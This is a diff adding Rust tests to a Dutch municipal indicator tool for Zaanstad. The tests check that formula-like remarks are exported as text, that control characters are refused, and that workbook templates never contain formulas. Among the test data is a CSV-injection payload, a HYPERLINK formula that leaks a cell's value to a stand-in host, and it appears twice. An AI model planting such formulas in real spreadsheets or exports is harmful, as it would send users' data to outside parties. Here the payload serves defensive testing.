@@ -205,3 +205,256 @@ fn the_store_is_created_where_db_points() {
     );
     assert!(store.path.exists());
 }
+
+/// The remarks of `indicator` in a CSV export, by period (for Zaanstad).
+fn csv_remarks(csv: &str, indicator: &str) -> Vec<(String, String, String)> {
+    let mut reader = csv::ReaderBuilder::new()
+        .delimiter(b';')
+        .from_reader(csv.as_bytes());
+    reader
+        .records()
+        .map(Result::unwrap)
+        .filter(|r| &r[0] == indicator && &r[1] == "Zaanstad")
+        .map(|r| (r[2].to_string(), r[3].to_string(), r[5].to_string()))
+        .collect()
+}
+
+/// A remark typed by one user must never run as a formula when a colleague opens the export in
+/// Excel: text starting with `=`, `+`, `-`, `@`, tab or carriage return (or `'`) is written with a
+/// leading `'`, and reading the export back takes it off, so nothing changes.
+#[test]
+fn remarks_that_look_like_formulas_are_exported_as_text_and_read_back_unchanged() {
+    let store = temp_store();
+    let hyperlink = r#"=HYPERLINK("http://x.example/?leak="&A1,"klik")"#;
+    // (remark in the file, remark as stored)
+    let remarks = [
+        (hyperlink, hyperlink),
+        ("+1+1", "+1+1"),
+        ("-2+3", "-2+3"),
+        ("@SUM(A1)", "@SUM(A1)"),
+        // A remark that starts with a tab, as an export writes it.
+        ("'\t=1+1", "\t=1+1"),
+        // A tab or line end in front of the text is trimmed, as ever; what follows is still text.
+        ("\t@tab", "@tab"),
+        ("\r=1+1", "=1+1"),
+        // The CSV reader makes every line end a line feed, so a `'` before one stays.
+        ("'\r=1+1", "'\n=1+1"),
+        // A hand-written quote is the user's own text.
+        ("'abc", "'abc"),
+        ("''=x", "'=x"),
+        ("gewoon", "gewoon"),
+    ];
+    let file = store.path.with_file_name("formules.csv");
+    let mut writer = csv::WriterBuilder::new()
+        .delimiter(b';')
+        .from_path(&file)
+        .unwrap();
+    writer
+        .write_record([
+            "indicator",
+            "gebied",
+            "periode",
+            "waarde",
+            "status",
+            "opmerking",
+        ])
+        .unwrap();
+    let periods: Vec<String> = (0..remarks.len())
+        .map(|i| format!("{} K{}", 2010 + i / 4, i % 4 + 1))
+        .collect();
+    for ((remark, _), period) in remarks.iter().zip(&periods) {
+        writer
+            .write_record(["zvh_aanmeldingen", "Zaanstad", period, "12", "", remark])
+            .unwrap();
+    }
+    // A negative number is a number, not text.
+    writer
+        .write_record([
+            "gemeentelijke_bijdrage_zvh",
+            "Zaanstad",
+            "2010",
+            "-2,5",
+            "",
+            "-correctie",
+        ])
+        .unwrap();
+    writer.flush().unwrap();
+    drop(writer);
+    let imported = run(&store.path, &["import", file.to_str().unwrap()]);
+    assert_eq!(imported.code, 0, "{}", imported.stderr);
+
+    // What is stored, as JSON shows it (no spreadsheet form there).
+    let json = run(
+        &store.path,
+        &[
+            "export",
+            "--indicator",
+            "zvh_aanmeldingen",
+            "--format",
+            "json",
+        ],
+    );
+    let rows: Vec<serde_json::Value> = serde_json::from_str(&json.stdout).unwrap();
+    for ((_, stored), period) in remarks.iter().zip(&periods) {
+        let row = rows
+            .iter()
+            .find(|r| r["gebied"] == "Zaanstad" && r["periode"] == period.as_str())
+            .unwrap();
+        assert_eq!(row["opmerking"], *stored, "{period}");
+    }
+
+    let export = run(&store.path, &["export", "--unshielded"]);
+    assert_eq!(export.code, 0, "{}", export.stderr);
+    let exported = csv_remarks(&export.stdout, "zvh_aanmeldingen");
+    for ((_, stored), period) in remarks.iter().zip(&periods) {
+        let (_, value, cell) = exported.iter().find(|(p, _, _)| p == period).unwrap();
+        assert_eq!(value, "12");
+        if stored.starts_with(['=', '+', '-', '@', '\t', '\r', '\'']) {
+            assert_eq!(*cell, format!("'{stored}"), "{period}");
+        } else {
+            assert_eq!(cell, stored, "{period}");
+        }
+    }
+    assert_eq!(
+        csv_remarks(&export.stdout, "gemeentelijke_bijdrage_zvh")
+            .into_iter()
+            .find(|(p, _, _)| p == "2010")
+            .unwrap(),
+        ("2010".into(), "-2,5".into(), "'-correctie".into())
+    );
+
+    // Reading the export back changes nothing: every remark comes back as stored.
+    let again = store.path.with_file_name("export.csv");
+    std::fs::write(&again, &export.stdout).unwrap();
+    let reimported = run(&store.path, &["import", again.to_str().unwrap()]);
+    assert_eq!(reimported.code, 0, "{}", reimported.stderr);
+    assert!(
+        reimported.stdout.contains(" 0 toegevoegd, 0 gewijzigd,")
+            && reimported.stdout.contains("Er is niets gewijzigd"),
+        "{}",
+        reimported.stdout
+    );
+    assert_eq!(
+        run(&store.path, &["export", "--unshielded"]).stdout,
+        export.stdout
+    );
+}
+
+#[test]
+fn a_remark_with_a_control_character_is_refused_with_file_row_and_column() {
+    let store = temp_store();
+    let before = run(&store.path, &["export", "--unshielded"]).stdout;
+    let file = store.path.with_file_name("stuurteken.csv");
+    std::fs::write(
+        &file,
+        "indicator;gebied;periode;waarde;status;opmerking\n\
+         zvh_aanmeldingen;Zaanstad;2010 K1;12;;goed\n\
+         zvh_aanmeldingen;Zaanstad;2010 K2;12;;bel\u{7}\n\
+         zvh_aanmeldingen;Zaanstad;2010 K3;veel;;\u{1b}[31mrood\n",
+    )
+    .unwrap();
+    let refused = run(&store.path, &["import", file.to_str().unwrap()]);
+    assert_eq!(refused.code, 1, "{}", refused.stdout);
+    let name = file.display();
+    for line in [
+        format!(
+            "{name}, rij 3, kolom opmerking: tekst bevat een stuurteken (U+0007) in veld 'opmerking'"
+        ),
+        format!("{name}, rij 4, kolom waarde: 'veel' is geen getal"),
+        format!(
+            "{name}, rij 4, kolom opmerking: tekst bevat een stuurteken (U+001B) in veld 'opmerking'"
+        ),
+    ] {
+        assert!(refused.stderr.contains(&line), "{line}\n{}", refused.stderr);
+    }
+    assert_eq!(run(&store.path, &["export", "--unshielded"]).stdout, before);
+}
+
+/// A copy of the shipped definitions with the name of `zvh_aanmeldingen` replaced.
+fn catalog_naming_aanmeldingen(name: &str) -> tempfile::TempDir {
+    let dir = tempfile::tempdir().unwrap();
+    let shipped = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("indicators");
+    for entry in std::fs::read_dir(shipped).unwrap() {
+        let path = entry.unwrap().path();
+        let mut text = std::fs::read_to_string(&path).unwrap();
+        if path.file_stem().unwrap() == "zvh_aanmeldingen" {
+            let line = text.lines().find(|l| l.starts_with("name = ")).unwrap();
+            text = text.replace(line, &format!("name = {}", toml_string(name)));
+        }
+        std::fs::write(dir.path().join(path.file_name().unwrap()), text).unwrap();
+    }
+    dir
+}
+
+/// `text` as a TOML basic string: control characters as `\uXXXX`, as TOML requires.
+fn toml_string(text: &str) -> String {
+    let mut out = String::from("\"");
+    for c in text.chars() {
+        match c {
+            '\\' | '"' => {
+                out.push('\\');
+                out.push(c);
+            }
+            _ if c.is_control() => out.push_str(&format!("\\u{:04X}", u32::from(c))),
+            _ => out.push(c),
+        }
+    }
+    out.push('"');
+    out
+}
+
+/// Catalog text in a workbook template is a string cell, whatever it starts with: never a formula.
+#[test]
+fn a_template_writes_catalog_text_as_text_not_as_a_formula() {
+    use calamine::{Data, Reader, Xlsx, open_workbook};
+    let store = temp_store();
+    let name = "=HYPERLINK(\"http://x.example/?leak=\"&A1,\"klik\")";
+    let catalog = catalog_naming_aanmeldingen(name);
+    let out = store.path.with_file_name("k1.xlsx");
+    let written = run(
+        &store.path,
+        &[
+            "--indicators",
+            catalog.path().to_str().unwrap(),
+            "template",
+            "--period",
+            "2026-K1",
+            "--out",
+            out.to_str().unwrap(),
+        ],
+    );
+    assert_eq!(written.code, 0, "{}", written.stderr);
+    let mut workbook: Xlsx<_> = open_workbook(&out).unwrap();
+    let cells = workbook.worksheet_range("zvh_aanmeldingen").unwrap();
+    assert_eq!(
+        cells.get_value((1, 0)),
+        Some(&Data::String(name.to_string()))
+    );
+    for sheet in workbook.sheet_names() {
+        let formulas = workbook.worksheet_formula(&sheet).unwrap();
+        assert!(
+            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
+            "{sheet} holds a formula"
+        );
+    }
+}
+
+/// A custom catalog is the one place indicator names come from: a control character there is named
+/// with file and key.
+#[test]
+fn a_catalog_name_with_a_control_character_is_refused_with_file_and_key() {
+    let store = temp_store();
+    let catalog = catalog_naming_aanmeldingen("Aanmeldingen\u{7}");
+    let dir = catalog.path().to_str().unwrap();
+    let out = run(&store.path, &["check", "--indicators", dir]);
+    assert_eq!(out.code, 1, "{}", out.stdout);
+    let file = catalog.path().join("zvh_aanmeldingen.toml");
+    assert!(
+        out.stderr.contains(&format!(
+            "{}: sleutel 'name': tekst bevat een stuurteken (U+0007)",
+            file.display()
+        )),
+        "{}",
+        out.stderr
+    );
+}
